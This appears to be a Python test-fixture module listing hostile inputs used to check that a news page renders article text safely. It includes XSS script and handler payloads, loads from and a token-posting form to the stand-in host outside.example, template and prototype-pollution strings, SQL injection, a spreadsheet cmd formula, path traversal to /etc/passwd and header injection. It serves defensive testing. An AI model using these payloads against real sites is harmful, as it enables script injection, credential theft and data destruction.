"""Texts that try to be more than text: what an article, its outlet or a reviewer could send at a page.

Each would, where a page took it for markup, a template, a link or a command, leave a trace: ``window.__x``
set, a dialog, a request to ``outside.example``, another title of the page. The tests look for these traces.
"""

from dataclasses import dataclass

MARK = "window.__x=1"
OUTSIDE = "//outside.example"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text, with what it tries.

    Attributes:
        what: What it tries, in a word or two.
        words: The text.
    """

    what: str
    words: str


def _all(what: str, *words: str) -> tuple[Hostile, ...]:
    return tuple(Hostile(what, one) for one in words)


SCRIPTS = _all(
    "script",
    f"<script>{MARK}</script>",
    f"</title><script>{MARK};document.title='taken'</script>",
    f"</textarea></style></noscript></template><script>{MARK}</script>",
    f"<ScRiPt/x>{MARK}</sCrIpT >",
    f"<script src={OUTSIDE}/a.js></script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f'"><script>{MARK}</script>',
    f"'-({MARK})-'",
    f"</script><script>{MARK}</script>",
    f"<!--><script>{MARK}</script>-->",
    f"<script type=module>{MARK}</script>",
    f'<script type="speculationrules">{{"prefetch":[{{"urls":["{OUTSIDE}/p"]}}]}}</script>',
)
HANDLERS = _all(
    "handler",
    f"<img src=x onerror={MARK}>",
    f"<img/src=`x`onerror={MARK}>",
    f"<body onload={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<details open ontoggle={MARK}><summary>more</summary></details>",
    f'" autofocus tabindex=1 onfocus="{MARK}" x="',
    f"' onmouseover='{MARK}' style='position:fixed;inset:0",
    f"<video><source onerror={MARK}></video>",
    f"<audio src onerror={MARK}>",
    f"<marquee onstart={MARK}>late news</marquee>",
    f"<p onanimationstart={MARK} style=animation-name:spin>dear reader</p>",
    f"<button popovertarget=x onclick={MARK}>Accept</button><div id=x popover onbeforetoggle={MARK}>",
)
SHAPES = _all(
    "svg or math",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{MARK}'><text y=20>read on</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,&lt;svg id=a onload={MARK}&gt;#a'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={MARK}>'>",
    f"<math href='javascript:{MARK}'>x</math>",
    f"<svg><foreignObject><body onload={MARK}></foreignObject></svg>",
)
STYLES = _all(
    "style",
    f"<style>@import '{OUTSIDE}/a.css';</style>",
    f"<style>*{{background:url({OUTSIDE}/all)}}</style>",
    f"<p style='background:url({OUTSIDE}/b)'>late</p>",
    f"<link rel=stylesheet href={OUTSIDE}/c.css>",
    f"x:expression({MARK})",
    "</style><style>body{display:none!important}</style>",
    f"<link rel=prefetch href={OUTSIDE}/d>",
    "red;} body{visibility:hidden} a{color:red",
)
LINKS = _all(
    "link",
    f"javascript:{MARK}",
    f" jAvAsCrIpT:{MARK}",
    f"java\tscript:{MARK}",
    f"java\nscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"javascript&colon;{MARK}",
    f"&#106;avascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"data:text/html;base64,PHNjcmlwdD57TUFSS308L3NjcmlwdD4={MARK}",
    f"vbscript:{MARK}",
    f"blob:https:{OUTSIDE}/1",
    f"{OUTSIDE}/without-a-scheme",
    f"\\\\outside.example\\share\\{MARK}",
    f"https://user:pass@127.0.0.1:1/\"onfocus='{MARK}'",
    f"http://[::1]:bad/<img src=x onerror={MARK}>",
    f"view-source:javascript:{MARK}",
    "file:///etc/passwd",
)
FRAMES = _all(
    "frame or form",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src=javascript:parent.{MARK}></iframe>",
    f"<object data={OUTSIDE}/o></object>",
    f"<embed src={OUTSIDE}/e>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/m'>",
    f"<form action={OUTSIDE}/f><input name=token><button>Log in again</button></form>",
    f"<template shadowrootmode=open><script>{MARK}</script></template>",
    f"<portal src={OUTSIDE}/p></portal><fencedframe src={OUTSIDE}/q></fencedframe>",
)
MUTATIONS = _all(
    "changes when parsed twice",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><p id='</style><img src onerror={MARK}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={MARK}>",
    f'<a title="`<p title=`onfocus={MARK}`>">half</a>',
    f"<![CDATA[<img src=x onerror={MARK}>]]>",
    f"<?xml-stylesheet href='javascript:{MARK}'?>",
    f"<xmp><p title='</xmp><img src=x onerror={MARK}>'>",
    f"<table><caption><img src=x onerror={MARK}></table>",
    f"<a href='#'onclick={MARK}/x=y<b>nested<a>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<!--",
)
ENTITIES = _all(
    "entity",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={MARK}&amp;gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"&#x3c;svg/onload={MARK}&#x3e;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={MARK}\\x3e",
    f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f"\u02bascript\u02ba<scr\u0130pt>{MARK}</scr\u0130pt>",
    f"<\u017fcript>{MARK}</\u017fcript>",
)
CHARACTERS = _all(
    "characters",
    f"<\x00script>{MARK}</script>",
    f"<img\x0csrc=x\x0conerror={MARK}>",
    f"\x1b]0;taken\x07\x1b[31m<img src=x onerror={MARK}>\x9b2J",
    f"\u202e>{MARK}=daolno gvs<\u202c",
    f"\u2066\u2067\u202d<b>left{MARK}\u2069",
    f"<scr\u200bipt\ufeff>{MARK}</scr\u00adipt>",
    f"line\u2028{MARK}\u2029line\x85line",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 60 + "algo",
    "\U000e0041\U000e0042\U000e0043tags that nobody sees",
    "\ufffe\uffff\ufdd0 no characters at all",
    "\u3164\u115f\u2800",
)
LONG = _all(
    "long",
    "W" * 5000,
    "https://outlet.example/" + "a" * 3000,
    "<b>" * 1500,
    "(" * 800 + "[" * 800,
    "\u0627" * 1500 + "a" * 1500,
)
TEMPLATES = _all(
    "template",
    "{{ window.__x = 1 }}",
    "{{constructor.constructor('window.__x=1')()}}",
    "{{ this.$root.$el.ownerDocument.title = 'taken' }}",
    "${window.__x=1}",
    "#{window.__x=1}",
    "<%= window.__x = 1 %>",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{0.__class__.__init__.__globals__} %(x)s {x!r}",
    "<div v-html=\"'<img src=x onerror=window.__x=1>'\"></div>",
    '<div v-on:click="window.__x=1" @mounted="window.__x=1" :x="window.__x=1"></div>',
    'props="onclick=window.__x=1" :options="[window.__x=1]"',
    'innerHTML="<img src=x onerror=window.__x=1>" label="x" v-model="y"',
    "color=red onerror=window.__x=1 icon=img:javascript:window.__x=1",
    "img:data:image/svg+xml,<svg onload=window.__x=1>",
    '<q-btn @click="window.__x=1">Accept</q-btn>',
    "function(){window.__x=1}",
    ":formatter=(p)=>{window.__x=1}",
    "__proto__",
    "constructor",
    "[read on](javascript:window.__x=1) ![x](//outside.example/i.png)",
    "# Heading\n- [ ] <img src=x onerror=window.__x=1>\n```html\n<script>window.__x=1</script>\n```",
    "$$\\href{javascript:window.__x=1}{x}$$",
    '{"type":"constructor","__proto__":{"polluted":1}}',
    '=HYPERLINK("https://outside.example","read")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE events; --",
    "%' OR 1=1 ESCAPE '\\",
    "../../../../etc/passwd",
    "a/b?c=d#e&f=g;h",
    "Set-Cookie: session=taken\r\nLocation: https://outside.example",
)
HOSTILE: tuple[Hostile, ...] = (
    *(*SCRIPTS, *HANDLERS, *SHAPES, *STYLES, *LINKS, *FRAMES),
    *(*MUTATIONS, *ENTITIES, *CHARACTERS, *LONG, *TEMPLATES),
)
"""All of them; no two have the same words."""
